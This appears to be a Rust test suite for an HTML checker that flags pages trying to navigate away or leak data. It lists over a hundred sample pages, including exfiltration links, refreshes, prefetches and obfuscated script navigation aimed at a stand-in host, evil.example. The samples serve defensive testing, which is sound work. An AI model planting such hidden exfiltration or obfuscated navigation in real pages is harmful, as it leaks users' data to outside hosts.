//! The navigation check, page by page: every escape spelling the record
//! lists, obfuscated spellings, and benign pages that must stay quiet.

use super::*;

/// (name, page, the rule that must be found, or None for a quiet page)
const PAGES: &[(&str, &str, Option<&str>)] = &[
    // Quiet pages.
    ("plain page", "<!doctype html><h1>Tip calculator</h1><p>Enter the bill.</p>", None),
    ("text mentions location", "<p>The location of the office: 5 Main St. Open 9-5, top floor, parent company ACME.</p>", None),
    ("fragment link", "<a href=\"#totals\">Jump to totals</a><h2 id=totals>Totals</h2>", None),
    ("empty href", "<a href=\"\">here</a>", None),
    ("calculator app", "<input id=a><button id=b>Add</button><output id=o></output><script>document.getElementById('b').addEventListener('click',()=>{const v=Number(document.getElementById('a').value);document.getElementById('o').textContent=v*1.2;});</script>", None),
    ("layout code with .top", "<div id=box></div><script>const r=document.getElementById('box').getBoundingClientRect();const top=r.top;console.log(top, r.left, node && node.parent);</script>", None),
    ("string says location", "<script>const label = 'Location: Paris'; document.title = label;</script>", None),
    ("inline styles and data images", "<style>body{font:14px sans-serif}</style><img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=x>", None),
    ("svg drawing", "<svg viewBox=\"0 0 10 10\"><circle cx=5 cy=5 r=4 fill=teal /><use href=\"#c\"/></svg>", None),
    ("json data script", "<script type=application/json id=d>{\"location\": \"Paris\", \"top\": 3}</script>", None),
    ("canvas chart", "<canvas id=c></canvas><script>const ctx=document.getElementById('c').getContext('2d');ctx.fillRect(0,0,10,10);window.addEventListener('resize',()=>draw());</script>", None),
    ("template text", "<script>const msg = `Open at ${hours} on the top floor`; out.textContent = msg;</script>", None),
    // Links, forms, refreshes, frames, downloads, hints.
    ("link out", "<a href=\"https://evil.example/?d=secret\">more</a>", Some("link-out")),
    ("protocol-relative link", "<a href=\"//evil.example\">x</a>", Some("link-out")),
    ("area link", "<map><area href=\"http://evil.example\" shape=rect coords=\"0,0,9,9\"></map>", Some("link-out")),
    ("svg link", "<svg><a xlink:href=\"https://evil.example\"><text>x</text></a></svg>", Some("link-out")),
    ("form", "<form action=\"https://evil.example\"><input name=q></form>", Some("form")),
    ("formaction", "<button formaction=\"https://evil.example\">go</button>", Some("form")),
    ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?d=1\">", Some("meta-refresh")),
    ("meta refresh odd case", "<META HTTP-EQUIV=Refresh CONTENT=\"1; URL=https://evil.example\">", Some("meta-refresh")),
    ("iframe", "<iframe src=\"https://evil.example\"></iframe>", Some("nested-frame")),
    ("srcdoc frame", "<iframe srcdoc=\"<p>hi</p>\"></iframe>", Some("nested-frame")),
    ("object", "<object data=\"https://evil.example/x.swf\"></object>", Some("nested-frame")),
    ("embed", "<embed src=\"https://evil.example/x\">", Some("nested-frame")),
    ("download link", "<a href=\"#\" download=\"x.txt\">save</a>", Some("download")),
    ("dns-prefetch", "<link rel=\"dns-prefetch\" href=\"//secret.evil.example\">", Some("resource-hint")),
    ("preconnect", "<link rel=\"preconnect\" href=\"https://evil.example\">", Some("resource-hint")),
    ("prefetch", "<link rel=prefetch href=\"https://evil.example/?d=1\">", Some("resource-hint")),
    ("prerender", "<link rel=\"PRERENDER\" href=\"https://evil.example\">", Some("resource-hint")),
    ("speculation rules", "<script type=\"speculationrules\">{\"prefetch\":[{\"urls\":[\"https://evil.example\"]}]}</script>", Some("speculation-rules")),
    ("ping", "<a href=\"#\" ping=\"https://evil.example\">x</a>", Some("ping")),
    ("svg animation of a link", "<svg><a><set attributeName=\"href\" to=\"https://evil.example\"/><text>x</text></a></svg>", Some("svg-animation")),
    ("noscript link", "<noscript><a href=\"https://evil.example\">x</a></noscript>", Some("link-out")),
    // Scripts.
    ("location assign", "<script>location = 'https://evil.example/?d=' + data;</script>", Some("script")),
    ("location.href", "<script>window.location.href = u;</script>", Some("script")),
    ("document.location", "<script>document.location.replace(u)</script>", Some("script")),
    ("window.open", "<script>window.open('https://evil.example')</script>", Some("script")),
    ("bare open", "<script>open(u)</script>", Some("script")),
    ("top navigation", "<script>top.location = u</script>", Some("script")),
    ("parent reach", "<script>parent.postMessage(secret, '*')</script>", Some("script")),
    ("opener", "<script>window.opener.location = u</script>", Some("script")),
    ("click", "<a id=l href=\"#\"></a><script>document.getElementById('l').click()</script>", Some("script")),
    ("submit", "<script>document.forms[0].submit()</script>", Some("script")),
    ("synthetic mouse event", "<script>el.dispatchEvent(new MouseEvent('click'))</script>", Some("script")),
    ("document.write", "<script>document.write('<p>hi</p>')</script>", Some("script")),
    ("webrtc", "<script>const pc = new RTCPeerConnection({iceServers:[{urls:'stun:evil.example'}]});</script>", Some("script")),
    ("navigation api", "<script>navigation.navigate(u)</script>", Some("script")),
    ("created link", "<script>const a = document.createElement('a'); a.href = u; document.body.append(a);</script>", Some("script")),
    ("created meta", "<script>const m = document.createElement('META');</script>", Some("script")),
    ("computed element", "<script>document.createElement(name)</script>", Some("script")),
    ("markup string", "<script>box.innerHTML = '<meta http-equiv=refresh content=0;url=https://evil.example>';</script>", Some("script")),
    ("link in markup string", "<script>box.innerHTML = `<a href=\"https://evil.example\">x</a>`;</script>", Some("script")),
    // Obfuscated spellings.
    ("atob bracket", "<script>self[atob('bG9jYXRpb24=')] = url</script>", Some("script")),
    ("concatenated key", "<script>window['loc' + 'ation'] = url</script>", Some("script")),
    ("literal key", "<script>globalThis[\"location\"].assign(u)</script>", Some("script")),
    ("escaped key", "<script>window['\\x6cocation'] = u</script>", Some("script")),
    ("unicode escape identifier", "<script>\\u006cocation = u</script>", Some("script")),
    ("eval", "<script>eval(code)</script>", Some("script")),
    ("Function constructor", "<script>new Function('return this')()</script>", Some("script")),
    ("fromCharCode", "<script>const k = String.fromCharCode(108,111,99); w[k] = u;</script>", Some("script")),
    ("string timer", "<script>setTimeout('location=u', 10)</script>", Some("script")),
    ("window alias", "<script>const w = window; w.location = u;</script>", Some("script")),
    ("comment hides nothing", "<script>/* harmless */ location.assign(u) // done</script>", Some("script")),
    // A browser reads `<scr<script>` as an unknown element and what follows
    // as text: nothing runs, and a parser sees it the same way.
    ("split script tag", "<scr<script>ipt>location=u</script>", None),
    ("top as a local", "<script>function place(el){ const { top, left } = el.getBoundingClientRect(); return [top, left]; }</script>", None),
    // Handlers and javascript: addresses.
    ("onclick handler", "<button onclick=\"location='https://evil.example'\">go</button>", Some("handler")),
    ("onerror handler", "<img src=x onerror=\"top.location=u\">", Some("handler")),
    ("entity-escaped handler", "<img src=x onerror=\"&#108;ocation=u\">", Some("handler")),
    ("unknown entity in handler", "<div onmouseover=\"lo&zwnj;cation=u\">x</div>", Some("handler")),
    ("javascript href", "<a href=\"javascript:go()\">x</a>", Some("javascript-url")),
    ("javascript href with tab", "<a href=\"java\tscript:go()\">x</a>", Some("javascript-url")),
    ("javascript href escaped", "<a href=\"jav&#x61;script&colon;go()\">x</a>", Some("javascript-url")),
    ("svg script", "<svg><script>location=u</script></svg>", Some("script")),
    // The window through this/self/globalThis/document.defaultView/frames/
    // ownerDocument chains.
    ("this.location", "<script>this.location = u</script>", Some("script")),
    ("this.open", "<script>this.open(u)</script>", Some("script")),
    ("self.self.open", "<script>self.self.open(u)</script>", Some("script")),
    ("globalThis.window.open", "<script>globalThis.window.open(u)</script>", Some("script")),
    ("document.defaultView.open", "<script>document.defaultView.open(u)</script>", Some("script")),
    ("document.defaultView.top", "<script>document.defaultView.top.postMessage(x, '*')</script>", Some("script")),
    ("ownerDocument.defaultView", "<script>el.ownerDocument.defaultView.open(u)</script>", Some("script")),
    ("ownerDocument.location", "<script>el.ownerDocument.location = u</script>", Some("script")),
    ("frames.open", "<script>frames.open(u)</script>", Some("script")),
    ("frames index", "<script>frames[0].postMessage(x, '*')</script>", Some("script")),
    ("optional chain", "<script>window?.open?.(u)</script>", Some("script")),
    ("spread window", "<script>const o = {...window}; o.open(u)</script>", Some("script")),
    ("event view", "<script>btn.onclick = e => e.view.open(u)</script>", Some("script")),
    ("contentWindow", "<script>f.contentWindow.open(u)</script>", Some("script")),
    // location through any alias.
    ("alias from defaultView", "<script>const d = document.defaultView; d.location = u</script>", Some("script")),
    ("alias returned", "<script>function w(){ return self } w().location.assign(u)</script>", Some("script")),
    ("alias in an array", "<script>const [w] = [globalThis]; w.location.href = u</script>", Some("script")),
    ("alias as argument", "<script>(function(g){ g.location.replace(u) })(this)</script>", Some("script")),
    ("destructured location", "<script>const { location: l } = window; l.assign(u)</script>", Some("script")),
    ("location of anything", "<script>const here = page.location; here.href = u</script>", Some("script")),
    ("location named as a string", "<script>Reflect.get(w, 'location').assign(u)</script>", Some("script")),
    ("location by descriptor", "<script>Object.getOwnPropertyDescriptor(w, 'location').get.call(w).assign(u)</script>", Some("script")),
    ("with window", "<script>with (window) { location = u }</script>", Some("script")),
    // Synthetic clicks.
    ("dispatchEvent", "<script>a.dispatchEvent(new Event('click'))</script>", Some("script")),
    ("createEvent", "<script>const e = document.createEvent('MouseEvents'); e.initMouseEvent('click'); a.dispatchEvent(e)</script>", Some("script")),
    ("click.call", "<script>HTMLElement.prototype.click.call(a)</script>", Some("script")),
    ("click held", "<script>const c = a.click; c.call(a)</script>", Some("script")),
    ("Reflect.apply", "<script>Reflect.apply(f, a, [])</script>", Some("script")),
    ("prototype descriptor", "<script>const d = Object.getOwnPropertyDescriptor(HTMLElement.prototype, k); d.value.call(a)</script>", Some("script")),
    ("bracket click", "<script>a['click']()</script>", Some("script")),
    ("bracket built from pieces", "<script>a['cl' + 'ick']()</script>", Some("script")),
    ("bracket built from a template", "<script>a[`cl${'ick'}`]()</script>", Some("script")),
    ("bracket built by join", "<script>a[['cl', 'ick'].join('')]()</script>", Some("script")),
    ("name built elsewhere", "<script>const k = 'cl' + 'ick'; a[k]()</script>", Some("script")),
    ("name built by concat", "<script>const k = 'cli'.concat('ck'); a[k]()</script>", Some("script")),
    ("name built by join", "<script>const k = ['sub', 'mit'].join(''); f[k]()</script>", Some("script")),
    ("name spelled backwards", "<script>const k = 'kcilc'.split('').reverse().join(''); a[k]()</script>", Some("script")),
    ("submit held", "<script>const s = form.submit; s.call(form)</script>", Some("script")),
    // Data blocks are read as markup a script could insert.
    ("template block with a link", "<script type=text/template id=t><a href=\"https://evil.example\">x</a></script><script>box.append(t.content)</script>", Some("link-out")),
    // Quiet: real app code.
    ("class with its own fields", "<script>class Counter { constructor(){ this.count = 0 } add(){ this.count++; out.textContent = this.count } } const c = new Counter(); btn.addEventListener('click', () => c.add());</script>", None),
    ("typeof window", "<script>if (typeof window !== 'undefined' && 'matchMedia' in window) { dark = window.matchMedia('(prefers-color-scheme: dark)').matches }</script>", None),
    ("array indexes", "<script>const rows = data.map((r, i) => r[i % 2]); table[rows.length - 1] = total; const k = key; obj[k] = 1;</script>", None),
    ("strings joined for text", "<script>out.textContent = 'Total: ' + total + ' items on the top ' + 'shelf';</script>", None),
    ("details open attribute", "<script>panel.toggleAttribute('open'); menu.classList.toggle('open');</script>", None),
];

#[test]
fn every_page_in_the_table() {
    assert!(PAGES.len() >= 100, "{} pages", PAGES.len());
    let mut wrong = Vec::new();
    for (name, page, rule) in PAGES {
        let found = navigation(page);
        let ok = match rule {
            None => found.is_empty(),
            Some(rule) => found.iter().any(|f| f.rule == *rule),
        };
        if !ok {
            wrong.push(format!("{name}: wanted {rule:?}, found {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn findings_say_why() {
    let found = navigation("<a href=\"https://evil.example/x\">x</a>");
    assert_eq!(
        found[0].detail,
        "a link out (<a> to https://evil.example/x)"
    );
}

#[test]
fn a_huge_page_is_checked_whole() {
    let mut page = "<p>filler</p>".repeat(30_000);
    page.push_str("<a href=\"https://evil.example\">x</a>");
    assert!(navigation(&page).iter().any(|f| f.rule == "link-out"));
}

/// Every way to reach the window (bare, through a chain, or handed on
/// through an alias), with every way to leave through it: each spelling
/// is found, whatever the combination.
#[test]
fn the_window_is_found_through_any_chain_or_alias() {
    let receivers = [
        "window",
        "self",
        "globalThis",
        "this",
        "frames",
        "document.defaultView",
        "el.ownerDocument.defaultView",
        "window.window",
        "self.self",
        "globalThis.self",
        "window.document.defaultView",
        "(0, window)",
        "e.view",
    ];
    let leaves = [
        ".location = u",
        ".location.href = u",
        "['location'] = u",
        "['loc' + 'ation'] = u",
        "[k] = u",
        ".open(u)",
        "['open'](u)",
        "?.open(u)",
        ".top.postMessage(d, '*')",
        ".parent.postMessage(d, '*')",
    ];
    let mut missed = Vec::new();
    for r in receivers {
        for leave in leaves {
            let shapes = [
                format!("{r}{leave}"),
                format!("const w = {r}; w{leave}"),
                format!("let w; w = {r}; w{leave}"),
                format!("((w) => {{ w{leave} }})({r})"),
                format!("const o = {{ w: {r} }}; o.w{leave}"),
                format!("function get() {{ return {r} }} get(){leave}"),
                format!("const [w] = [{r}]; w{leave}"),
            ];
            for code in shapes {
                let page = format!("<script>{code}</script>");
                if !navigation(&page).iter().any(|f| f.rule == "script") {
                    missed.push(code);
                }
            }
        }
    }
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}

/// Every way to click or submit by script, on every kind of target.
#[test]
fn synthetic_clicks_are_found_however_spelled() {
    let targets = [
        "a",
        "document.links[0]",
        "document.querySelector('a')",
        "form",
        "els[i]",
    ];
    let clicks = [
        "{t}.click()",
        "{t}.submit()",
        "{t}.requestSubmit()",
        "{t}.dispatchEvent(new MouseEvent('click'))",
        "{t}.dispatchEvent(new Event('click'))",
        "{t}.dispatchEvent(new PointerEvent('click'))",
        "const e = document.createEvent('Event'); e.initEvent('click', true, true); {t}.dispatchEvent(e)",
        "HTMLElement.prototype.click.call({t})",
        "HTMLAnchorElement.prototype.click.apply({t})",
        "Reflect.apply(HTMLElement.prototype.click, {t}, [])",
        "const c = {t}.click.bind({t}); c()",
        "{t}['click']()",
        "{t}['cl' + 'ick']()",
        "{t}[`cli${'ck'}`]()",
        "{t}[['c', 'lick'].join('')]()",
        "const k = 'cl' + 'ick'; {t}[k]()",
        "const k = 'kcilc'.split('').reverse().join(''); {t}[k]()",
        "const f = {t}['dispatch' + 'Event']; f.call({t}, x)",
        "EventTarget.prototype.dispatchEvent.call({t}, x)",
    ];
    let mut missed = Vec::new();
    for t in targets {
        for c in clicks {
            let code = c.replace("{t}", t);
            let page = format!("<a href=\"#\">x</a><script>{code}</script>");
            if !navigation(&page).iter().any(|f| f.rule == "script") {
                missed.push(code);
            }
        }
    }
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}
